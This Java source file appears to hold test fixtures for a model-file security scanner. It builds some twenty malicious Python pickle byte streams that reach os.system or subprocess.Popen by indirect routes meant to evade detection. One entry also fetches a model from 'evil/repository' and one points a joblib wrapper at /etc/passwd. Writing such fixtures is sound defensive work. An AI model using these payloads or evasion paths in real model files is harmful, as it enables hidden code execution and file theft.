package io.sallyport.artifacts.evasion;

import static io.sallyport.artifacts.evasion.PickleEvasions.four;
import static io.sallyport.artifacts.evasion.PickleEvasions.old;
import static io.sallyport.artifacts.evasion.PickleEvasions.two;

import java.util.List;

/** Pickles that call by another way than the usual one. */
final class CallEvasions {

  private CallEvasions() {}

  static List<Evasion> all() {
    Evasion.Shelf shelf = new Evasion.Shelf();
    calls(shelf);
    return shelf.all();
  }

  private static void calls(Evasion.Shelf shelf) {
    shelf
        .runs(
            "result dropped",
            "m.pkl",
            four().global("os", "system").text("id").op(0x85).raw("R0N.").bytes())
        .runs("OBJ and POP", "m.pkl", two().raw("(cos\nsystem\nS'id'\no0N.").bytes())
        .runs(
            "NEWOBJ",
            "m.pkl",
            four().global("subprocess", "Popen").text("id").op(0x85).op(0x81).op('.').bytes())
        .runs(
            "NEWOBJ_EX",
            "m.pkl",
            four()
                .global("subprocess", "Popen")
                .text("id")
                .op(0x85)
                .raw("}")
                .op(0x92)
                .op('.')
                .bytes())
        .runs(
            "arguments from a list",
            "m.pkl",
            four()
                .global("os", "system")
                .global("builtins", "tuple")
                .raw("]")
                .text("id")
                .raw("a")
                .op(0x85)
                .raw("RR.")
                .bytes())
        .runs(
            "partial",
            "m.pkl",
            four()
                .global("functools", "partial")
                .global("os", "system")
                .text("id")
                .op(0x86)
                .raw("R)R.")
                .bytes())
        .runs(
            "hook by BUILD",
            "m.pkl",
            four()
                .global("collections", "OrderedDict")
                .raw(")R}")
                .text("__setstate__")
                .global("os", "system")
                .raw("sb")
                .text("id")
                .raw("b.")
                .bytes())
        .runs(
            "hook in a slot state",
            "m.pkl",
            four()
                .global("collections", "OrderedDict")
                .raw(")RN}")
                .text("__setstate__")
                .global("torch.storage", "_load_from_bytes")
                .raw("s")
                .op(0x86)
                .raw("b")
                .blob(old())
                .raw("b.")
                .bytes())
        .runs(
            "hook in a dictionary that a call makes",
            "m.pkl",
            four()
                .global("collections", "OrderedDict")
                .raw(")R")
                .global("builtins", "dict")
                .raw("]")
                .text("__setstate__")
                .global("torch.storage", "_load_from_bytes")
                .op(0x86)
                .raw("a")
                .op(0x85)
                .raw("Rb")
                .blob(old())
                .raw("b.")
                .bytes())
        .runs(
            "append of an object",
            "m.pkl",
            four()
                .global("collections", "OrderedDict")
                .raw(")R}")
                .text("append")
                .global("torch.storage", "_load_from_bytes")
                .raw("sb")
                .blob(old())
                .raw("a.")
                .bytes())
        .runs(
            "add of an object",
            "m.pkl",
            four()
                .global("collections", "OrderedDict")
                .raw(")R}")
                .text("add")
                .global("torch.storage", "_load_from_bytes")
                .raw("sb(")
                .blob(old())
                .op(0x90)
                .raw(".")
                .bytes())
        .runs(
            "loader handed to a constructor that calls",
            "m.pkl",
            four()
                .global("numpy.random._pickle", "__generator_ctor")
                .blob(old())
                .global("torch.storage", "_load_from_bytes")
                .op(0x86)
                .raw("R.")
                .bytes())
        .runs(
            "loader called by a rebuilder",
            "m.pkl",
            four()
                .global("torch._tensor", "_rebuild_from_type_v2")
                .global("torch.storage", "_load_from_bytes")
                .global("torch", "Tensor")
                .blob(old())
                .op(0x85)
                .raw("}(")
                .op('t')
                .raw("R.")
                .bytes())
        .runs(
            "iterator that calls",
            "m.pkl",
            four()
                .global("builtins", "list")
                .global("builtins", "iter")
                .global("os", "getpid")
                .raw("K\u0001")
                .op(0x86)
                .op('R')
                .op(0x85)
                .raw("R.")
                .bytes())
        .runs(
            "class changed for everybody",
            "m.pkl",
            four()
                .global("collections", "OrderedDict")
                .raw("}")
                .text("__init__")
                .global("os", "system")
                .raw("sb.")
                .bytes())
        .runs(
            "item of a module's dictionary",
            "m.pkl",
            four().global("sys", "modules").text("x").global("os", "system").raw("s.").bytes())
        .runs(
            "type of three arguments",
            "m.pkl",
            four()
                .global("builtins", "type")
                .text("X")
                .raw(")}")
                .text("__reduce__")
                .global("os", "system")
                .op('s')
                .op(0x87)
                .raw("R.")
                .bytes())
        .runs(
            "function type by type()",
            "m.pkl",
            four()
                .global("builtins", "type")
                .global("copyreg", "_reconstructor")
                .op(0x85)
                .raw("R")
                .text("x")
                .op(0x85)
                .raw("R.")
                .bytes())
        .runs(
            "call of a call",
            "m.pkl",
            four()
                .global("operator", "itemgetter")
                .raw("K\0")
                .op(0x85)
                .raw("R")
                .text("id")
                .op(0x85)
                .raw("R.")
                .bytes())
        .runs(
            "base class that is built instead",
            "m.pkl",
            four()
                .global("copyreg", "_reconstructor")
                .global("collections", "OrderedDict")
                .global("subprocess", "Popen")
                .text("id")
                .op(0x87)
                .raw("R.")
                .bytes())
        .runs(
            "constructor that downloads a model",
            "m.pkl",
            four()
                .global("sentence_transformers.SentenceTransformer", "SentenceTransformer")
                .text("evil/repository")
                .op(0x85)
                .raw("R.")
                .bytes())
        .odd(
            "wrapper that reads another file",
            "m.joblib",
            four()
                .global("joblib.numpy_pickle", "NDArrayWrapper")
                .raw(")")
                .op(0x81)
                .raw("}")
                .text("filename")
                .text("/etc/passwd")
                .raw("sb.")
                .bytes());
  }
}
